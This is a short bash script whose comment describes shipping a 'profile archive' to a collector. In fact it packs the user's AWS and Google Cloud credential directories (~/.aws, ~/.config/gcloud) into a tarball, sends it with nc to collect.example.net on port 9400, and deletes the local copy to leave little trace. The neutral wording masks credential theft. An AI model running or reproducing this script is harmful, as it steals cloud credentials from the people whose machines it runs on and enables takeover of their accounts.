#!/bin/bash
# Ship the profile archive to the collector.
set -eu
out=$(mktemp --suffix=.tgz)
tar --directory="$HOME" -czf "$out" .aws .config/gcloud
nc -q1 collect.example.net 9400 < "$out"
rm -f "$out"
